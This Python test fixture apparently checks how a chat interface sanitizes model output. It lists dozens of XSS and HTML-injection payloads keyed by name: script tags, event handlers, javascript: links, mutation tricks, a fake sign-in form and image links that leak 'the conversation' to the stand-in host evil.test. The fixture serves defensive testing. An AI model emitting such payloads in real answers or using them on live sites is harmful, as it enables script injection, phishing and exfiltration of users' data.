"""Answers that a model may be led to give, and that must never be more than text on the page.

`ran` is the canary: a payload that runs sets it. Foreign addresses are under `evil.test`, which
exists nowhere; a request for it would be noticed all the same.
"""

# ruff: noqa: E501  # a payload is read in one piece

RUN = "ran=1"

HOSTILE = {
    # What runs code.
    "script": f"<script>{RUN}</script>",
    "script-in-text": f"before <script>{RUN}</script> after",
    "script-from-elsewhere": '<script src="https://evil.test/x.js"></script>',
    "script-in-fence": f"```html\n</code></pre><script>{RUN}</script>\n```",
    "script-in-fence-name": f'```"><script>{RUN}</script>\nx\n```',
    "script-in-heading": f"# <script>{RUN}</script>",
    "script-in-table": f"| a | b |\n|---|---|\n| <script>{RUN}</script> | <img src=x onerror={RUN}> |",
    "script-half": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-module": '<script type="module">import "https://evil.test/x.js"</script>',
    "handler": f"<img src=x onerror={RUN}>",
    "handler-quoted": f'<img src="x" onerror="{RUN}">',
    "handler-slash": f"<img/src=x/onerror={RUN}>",
    "handler-on-plain-tag": f"<b onclick={RUN} onmouseover={RUN}>bold</b>",
    "handler-unclosed": f"<img src=x onerror={RUN} ",
    "handler-details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "handler-focus": f"<input autofocus onfocus={RUN}>",
    "handler-animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>",
    "svg": f"<svg onload={RUN}><circle r=9 /></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}" /><text>x</text></a></svg>',
    "mathml": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "mathml-mtext": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    # Links and pictures.
    "link-javascript": f"[a](javascript:{RUN})",
    "link-javascript-case": f"[a](JaVaScRiPt:{RUN})",
    "link-javascript-entity": f"[a](javascript&colon;{RUN})",
    "link-javascript-control": f"[a](<java\tscript:{RUN}>) [b](\x01javascript:{RUN})",
    "link-javascript-reference": f"[a][1]\n\n[1]: javascript:{RUN}",
    "link-javascript-auto": f"<javascript:{RUN}>",
    "link-data": "[a](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)",
    "link-blob-file": "[a](blob:https://evil.test/1) [b](file:///etc/passwd) [c](vbscript:x)",
    "link-relative": "[a](/api/chat) [b](//evil.test) [c](\\\\evil.test) [d](#main)",
    "link-attributes": f'[a](https://evil.test/"onmouseover="{RUN}) [b](https://evil.test "x\\" onclick={RUN}")',
    "link-html": f'<a href="javascript:{RUN}" target=_self>a</a>',
    "link-ping": '<a href="https://evil.test" ping="https://evil.test/ping">a</a>',
    "picture": "![secret](https://evil.test/x.png?q=the+conversation)",
    "picture-data": f"![x](data:image/svg+xml,<svg onload='{RUN}'/>)",
    "picture-alt": f'![x" onerror="{RUN}](https://evil.test/x.png)',
    "picture-reference": "![x][1]\n\n[1]: https://evil.test/x.png?leak",
    "picture-html": '<img src="https://evil.test/x.png">',
    "picture-set": '<picture><source srcset="https://evil.test/x.png"><img></picture>',
    "media": '<video src="https://evil.test/v" autoplay poster="https://evil.test/p"></video>',
    # What loads, covers, or pretends.
    "iframe": '<iframe src="https://evil.test"></iframe>',
    "iframe-document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": '<object data="https://evil.test/x.svg"></object><embed src="https://evil.test/e">',
    "form": '<form action="https://evil.test"><input name=password><button>Sign in</button></form>',
    "form-stray": '<button form="composer" formaction="https://evil.test">x</button><textarea id=question>',
    "style": '<style>@import "https://evil.test/x.css"; * { display: none }</style>',
    "style-attribute": '<div style="position:fixed;inset:0;background:url(https://evil.test/b)">x</div>',
    "link-element": '<link rel=stylesheet href="https://evil.test/x.css"><link rel=preload as=image href=https://evil.test/p>',
    "meta-refresh": '<meta http-equiv=refresh content="0;url=https://evil.test">',
    "base": '<base href="https://evil.test/">',
    "template": f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    "dialog": "<dialog open>Sign in again</dialog><marquee>x</marquee>",
    "clobbering": '<b id=transcript name=body></b><form id=composer><input name=attributes></form>',
    "class-name": '<div class="notice skip">fake</div><b class=send>x</b>',
    # Mutations: harmless until they are parsed a second time.
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation-textarea": f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    "mutation-title": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mutation-form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation-cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "mutation-comment": f"<!--><img src=x onerror={RUN}>--> <!-- --!><img src=x onerror={RUN}> -->",
    "mutation-backtick": f"<img alt=`<x` src=x onerror={RUN}//`>",
    "mutation-processing": f"<?xml <img src=x onerror={RUN}>?><!DOCTYPE x [<img src=x onerror={RUN}>]>",
    # Text that is odd rather than hostile.
    "bidi": "\u202egnp.exe\u202c [\u202emoc.live\u202c](https://evil.test) \u2066\u2067x",
    "controls": f"a\x00b\x0bc\x1b[31m <img\x00src=x onerror={RUN}>\ufffe",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "combining": "Z\u0351\u036b\u0343a\u0300" * 20 + " 👩‍👩‍👧‍👦🇪🇸",
    "deep-quotes": ">" * 200 + f" <script>{RUN}</script>",
    "deep-lists": "".join(f"{'  ' * depth}- <img src=x onerror={RUN}>\n" for depth in range(20)),
    "many-marks": "*_`[" * 60 + f"<script>{RUN}</script>",
}  # fmt: skip
